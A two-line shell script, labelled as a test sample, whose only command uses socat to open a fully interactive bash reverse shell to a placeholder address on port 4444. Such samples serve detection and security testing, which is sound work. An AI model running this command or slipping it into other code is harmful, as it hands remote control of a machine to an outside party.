#!/bin/sh
# test sample: fully interactive reverse shell through socat
socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:192.0.2.10:4444
